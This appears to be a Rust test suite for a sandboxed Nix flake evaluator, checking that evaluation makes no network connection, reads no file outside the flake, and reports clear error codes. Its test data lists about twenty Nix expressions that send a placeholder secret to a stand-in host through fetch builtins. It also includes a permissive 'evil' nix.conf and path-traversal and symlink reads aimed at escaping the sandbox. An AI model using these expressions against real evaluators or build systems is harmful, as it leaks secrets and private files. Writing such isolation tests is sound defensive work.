//! What an evaluation cannot reach: the network, and files outside of the flake and its inputs.

use std::io::Write;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

use super::{evaluate, on_each_nix};
use crate::common::fleet::{Fleet, below, errors, nixes};

const HASH: &str = "sha256-n22Jee+ZNHHad1H0E4udOgKzLH9IVtxC92FyTFq3BjY=";
const REV: &str = "9657736ce8d6af07035ec11eb83922442ca88649";

/// Functions that send their argument to `ADDRESS`.
const SENDING: &[&str] = &[
    r#"secret: builtins.fetchurl "http://ADDRESS/${secret}""#,
    r#"secret: builtins.fetchurl { url = "http://ADDRESS/${secret}"; sha256 = "HASH"; }"#,
    r#"secret: builtins.readFile (builtins.fetchurl "https://ADDRESS/${secret}")"#,
    r#"secret: builtins.fetchTarball { url = "http://ADDRESS/${secret}.tar.gz"; sha256 = "HASH"; }"#,
    r#"secret: import (builtins.fetchTarball "http://ADDRESS/${secret}.tar.gz")"#,
    r#"secret: builtins.fetchGit { url = "http://ADDRESS/${secret}"; rev = "REV"; }"#,
    r#"secret: builtins.fetchGit { url = "git://ADDRESS/${secret}"; rev = "REV"; allRefs = true; }"#,
    r#"secret: builtins.fetchGit { url = "ssh://git@ADDRESS/${secret}"; rev = "REV"; }"#,
    r#"secret: builtins.fetchMercurial { url = "http://ADDRESS/${secret}"; rev = "REV"; }"#,
    r#"secret: builtins.fetchTree { type = "tarball"; url = "http://ADDRESS/${secret}.tar.gz"; narHash = "HASH"; }"#,
    r#"secret: builtins.fetchTree { type = "git"; url = "http://ADDRESS/${secret}"; rev = "REV"; }"#,
    r#"secret: builtins.getFlake "http://ADDRESS/${secret}.tar.gz?narHash=HASH""#,
    r#"secret: builtins.getFlake "git+http://ADDRESS/${secret}?rev=REV""#,
    r#"secret: __getFlake "tarball+http://ADDRESS/${secret}?narHash=HASH""#,
    r#"secret: builtins.findFile [ { prefix = "x"; path = "http://ADDRESS/${secret}.tar.gz"; } ] "x/y""#,
    r#"secret: __findFile [ { prefix = ""; path = "http://ADDRESS/${secret}"; } ] "y""#,
    r#"secret: let __nixPath = [ { prefix = "x"; path = "http://ADDRESS/${secret}.tar.gz"; } ]; in <x/y>"#,
    r#"secret: builtins.fetchClosure { fromStore = "http://ADDRESS/${secret}"; fromPath = "/nix/store/78whd3ld6l5c0xr4mzlh0xfsdfgwy076-x"; }"#,
    r#"secret: builtins.readFile "http://ADDRESS/${secret}""#,
    r#"secret: import (derivation { name = secret; system = "builtin"; builder = "builtin:fetchurl"; url = "http://ADDRESS/${secret}"; outputHash = "HASH"; outputHashMode = "flat"; })"#,
    r#"secret: builtins.appendContext "/nix/store/78whd3ld6l5c0xr4mzlh0xfsdfgwy076-${secret}" { "/nix/store/78whd3ld6l5c0xr4mzlh0xfsdfgwy076-${secret}".path = true; }"#,
];

/// A listener that remembers whether somebody connected, and has nothing for anybody.
struct Listener {
    address: String,
    reached: Arc<AtomicBool>,
}

impl Listener {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let reached = Arc::new(AtomicBool::new(false));
        let seen = Arc::clone(&reached);
        std::thread::spawn(move || {
            for connection in listener.incoming() {
                seen.store(true, Ordering::SeqCst);
                let _ = connection.unwrap().write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
            }
        });
        Self { address, reached }
    }

    /// Whether somebody connected since the last time.
    fn was_reached(&self) -> bool {
        self.reached.swap(false, Ordering::SeqCst)
    }
}

fn filled(function: &str, address: &str) -> String {
    let in_url = HASH.replace('+', "%2B").replace('=', "%3D");
    let function = function.replace("narHash=HASH", &format!("narHash={in_url}"));
    function.replace("HASH", HASH).replace("REV", REV).replace("ADDRESS", address)
}

/// A flake of which each output `sends-N` sends `secret`.
fn sending_fleet(nix: &Path, address: &str) -> Fleet {
    let flake = "{ outputs = _: let secret = \"hunter2\"; in { inherit secret; \
                 sends = builtins.mapAttrs (name: _: import ./sending/${name} secret) (builtins.readDir ./sending); }; }";
    let fleet = Fleet::plain(nix, &[("flake.nix", flake)]);
    for (number, function) in SENDING.iter().enumerate() {
        fleet.write(&format!("sending/{number}"), &filled(function, address));
    }
    fleet.git(&["init", "-q"]);
    fleet.git(&["add", "."]);
    fleet.git(&["commit", "-qm", "a fleet"]);
    // Nix's own configuration does not help.
    let evil = "experimental-features = nix-command flakes fetch-tree fetch-closure\nallowed-uris = http:// https://\n\
                extra-substituters = http://";
    std::fs::create_dir_all(fleet.home().join(".config/nix")).unwrap();
    std::fs::write(fleet.home().join(".config/nix/nix.conf"), format!("{evil}{address}\n")).unwrap();
    fleet
}

/// Runs the test with all Nix programs at once, because it takes long.
fn with_each_nix(test: impl Fn(&Path) + Sync) {
    std::thread::scope(|scope| {
        for nix in nixes() {
            let test = &test;
            scope.spawn(move || test(&nix));
        }
    });
}

#[test]
fn no_connection_is_made() {
    with_each_nix(|nix| {
        let listener = Listener::start();
        let fleet = sending_fleet(nix, &listener.address);
        // The listener works, and so do the functions: without isolation, they arrive.
        let function = filled(
            r#"secret: builtins.getFlake "http://ADDRESS/${secret}.tar.gz?narHash=HASH""#,
            &listener.address,
        );
        fleet.by_hand(&[
            "eval",
            "--json",
            "--option",
            "download-attempts",
            "1",
            "--apply",
            &function,
            ".#secret",
        ]);
        assert!(listener.was_reached());
        for (number, function) in SENDING.iter().enumerate() {
            let function = filled(function, &listener.address);
            for arguments in
                [json!({"attr": "secret", "apply": function}), json!({"attr": format!("sends.\"{number}\"")})]
            {
                let answer = evaluate(&fleet, arguments);
                assert!(!listener.was_reached(), "{}: {function}: {:#}", nix.display(), answer.json);
                let is_context_alone = function.contains("appendContext");
                assert_eq!(answer.code, i32::from(!is_context_alone), "{function}: {:#}", answer.json);
            }
        }
    });
}

#[test]
fn what_would_be_fetched_has_a_code() {
    on_each_nix(|nix| {
        let fleet = sending_fleet(nix, "example.org");
        for builtin in ["fetchurl", "fetchTarball", "fetchGit", "fetchTree", "getFlake", "findFile"] {
            for function in
                SENDING.iter().filter(|function| function.contains(&format!("builtins.{builtin}")))
            {
                let answer =
                    evaluate(&fleet, json!({"attr": "secret", "apply": filled(function, "example.org")}));
                let code = answer.error_code();
                let is_named = code == "needs_network" || builtin == "findFile" && code == "impure_access";
                assert!(is_named, "{function}: {:#}", answer.json);
            }
        }
    });
}

#[test]
fn without_namespaces_curl_and_git_go_nowhere() {
    on_each_nix(|nix| {
        let listener = Listener::start();
        let fleet = sending_fleet(nix, &listener.address);
        for function in SENDING.iter().filter(|function| function.contains("indFile")) {
            let arguments =
                json!({"attr": "secret", "apply": filled(function, &listener.address)}).to_string();
            let refusing = "echo 0 >/proc/sys/user/max_net_namespaces && exec \"$@\"";
            let program = fleet.command(&["call", "evaluate", &arguments]);
            let outer = ["unshare", "--user", "--map-root-user", "sh", "-c", refusing, "sh"];
            let output = below(&outer, &program).output().unwrap();
            let said = errors(&output);
            assert!(said.contains("lets no program leave the network"), "{said}");
            assert!(!listener.was_reached(), "{function}: {said}");
        }
    });
}

#[test]
fn no_file_outside_of_the_flake_is_read() {
    on_each_nix(|nix| {
        let library =
            Fleet::committed(nix, &[("flake.nix", "{ outputs = _: { }; }"), ("inside", "in an input")]);
        let flake = format!(
            "{{ inputs.library.url = \"git+file://{}\"; outputs = {{ self, library }}: {{ \
             path = \"${{self}}\"; library = \"${{library}}\"; }}; }}",
            library.folder().display()
        );
        let fleet = Fleet::committed(nix, &[("flake.nix", &flake), ("inside", "in the flake")]);
        let locked = fleet.by_hand(&["flake", "lock"]);
        assert!(locked.status.success(), "{}", errors(&locked));
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
        let secret = format!("hunter2-{now}");
        let other = Fleet::committed(
            nix,
            &[("flake.nix", "{ outputs = _: { x = ./secret; }; }"), ("secret", &secret)],
        );
        let folder = other.folder().display().to_string();
        let rev =
            Command::new("git").args(["rev-parse", "HEAD"]).current_dir(other.folder()).output().unwrap();
        let rev = String::from_utf8(rev.stdout).unwrap().trim().to_owned();
        let stored = other.by_hand(&["flake", "metadata", "--json", "."]);
        let stored: Value = serde_json::from_slice(&stored.stdout).unwrap();
        let stored = stored["path"].as_str().unwrap();
        std::os::unix::fs::symlink(other.folder(), fleet.folder().join("link")).unwrap();
        fleet.git(&["add", "."]);
        for function in [
            "_: builtins.readFile \"FOLDER/secret\"",
            "_: builtins.readFile (/. + \"FOLDER/secret\")",
            "_: import FOLDER/flake.nix",
            "_: builtins.readDir FOLDER",
            "_: builtins.readFileType \"FOLDER/secret\"",
            "_: builtins.hashFile \"sha256\" \"FOLDER/secret\"",
            "_: builtins.path { path = \"FOLDER\"; }",
            "_: builtins.path { path = \"FOLDER/secret\"; sha256 = \"HASH\"; }",
            "_: builtins.filterSource (_: _: true) FOLDER",
            "_: \"${FOLDER/secret}\"",
            "_: builtins.findFile [ { prefix = \"x\"; path = \"FOLDER\"; } ] \"x/secret\"",
            "_: <secret>",
            "_: <nixpkgs>",
            "_: <source>",
            "_: builtins.fetchurl \"file://FOLDER/secret\"",
            "_: builtins.fetchTarball \"file://FOLDER/secret\"",
            "_: builtins.fetchGit \"FOLDER\"",
            "_: builtins.fetchGit { url = \"file://FOLDER\"; rev = \"OTHER\"; }",
            "_: builtins.fetchTree { type = \"path\"; path = \"FOLDER\"; narHash = \"HASH\"; }",
            "_: builtins.fetchTree \"path:FOLDER\"",
            "_: builtins.getFlake \"path:FOLDER?narHash=HASH\"",
            "_: (builtins.getFlake \"git+file://FOLDER?rev=OTHER\").x",
            "_: builtins.storePath \"STORED\"",
            "_: builtins.readFile \"STORED/secret\"",
            "_: builtins.readFile (builtins.appendContext \"STORED/secret\" { \"STORED\".path = true; })",
            "path: builtins.readFile \"${path}/../../../FOLDER/secret\"",
            "path: builtins.readFile \"${path}/link/secret\"",
            "path: builtins.readDir \"${path}/link/\"",
        ] {
            let function =
                function.replace("FOLDER", &folder).replace("OTHER", &rev).replace("STORED", stored);
            let answer = evaluate(&fleet, json!({"attr": "path", "apply": filled(&function, "")}));
            assert_eq!(answer.code, 1, "{function}: {:#}", answer.json);
            assert!(!answer.json.to_string().contains(&secret), "{function}: {:#}", answer.json);
        }
        let variable = evaluate(&fleet, json!({"attr": "path", "apply": "_: builtins.getEnv \"HOME\""}));
        assert_eq!(variable.json, json!({"value": ""}));
        for (attr, said) in [("path", "in the flake"), ("library", "in an input")] {
            let arguments = json!({"attr": attr, "apply": "path: builtins.readFile \"${path}/inside\""});
            assert_eq!(evaluate(&fleet, arguments).json["value"], said);
        }
    });
}

#[test]
fn what_needs_a_build_has_a_code() {
    on_each_nix(|nix| {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();
        let flake = r#"{ outputs = _: let
          made = derivation { name = "made-UNIQUE"; system = "x86_64-linux"; builder = "/bin/sh"; args = [ "-c" "echo 7 >$out" ]; };
        in { value = import made; made = made.outPath; }; }"#;
        let fleet = Fleet::committed(nix, &[("flake.nix", &flake.replace("UNIQUE", &now.to_string()))]);
        let answer = evaluate(&fleet, json!({"attr": "value"}));
        assert_eq!(answer.error_code(), "needs_build", "{:#}", answer.json);
        assert!(
            answer.json["error"]["hint"].as_str().unwrap().contains("builds nothing"),
            "{:#}",
            answer.json
        );
        let made = evaluate(&fleet, json!({"attr": "made"})).json["value"].as_str().unwrap().to_owned();
        assert!(!Path::new(&made).exists());
    });
}

#[test]
fn an_input_that_cannot_be_fetched_costs_only_what_needs_it() {
    on_each_nix(|nix| {
        let library = Fleet::committed(nix, &[("flake.nix", "{ outputs = _: { x = 1; }; }")]);
        let flake = format!(
            "{{ inputs.library.url = \"git+file://{}\"; outputs = {{ self, library }}: {{ inherit (library) x; own = 2; }}; }}",
            library.folder().display()
        );
        let fleet = Fleet::committed(nix, &[("flake.nix", &flake)]);
        let locked = fleet.by_hand(&["flake", "lock"]);
        assert!(locked.status.success(), "{}", errors(&locked));
        // Another content that is nowhere.
        let lock = std::fs::read_to_string(fleet.folder().join("flake.lock")).unwrap();
        let mut lock: Value = serde_json::from_str(&lock).unwrap();
        lock["nodes"]["library"]["locked"]["narHash"] = HASH.replace("n22", "n33").into();
        lock["nodes"]["library"]["locked"]["rev"] = "a".repeat(40).into();
        fleet.write("flake.lock", &lock.to_string());
        fleet.git(&["add", "."]);
        assert_eq!(evaluate(&fleet, json!({"attr": "own"})).json["value"], 2);
        let answer = evaluate(&fleet, json!({"attr": "x"}));
        assert_eq!(answer.code, 1, "{:#}", answer.json);
        let text = answer.json.to_string();
        assert!(text.contains(&"a".repeat(40)), "the error is that of the fetch: {text}");
    });
}
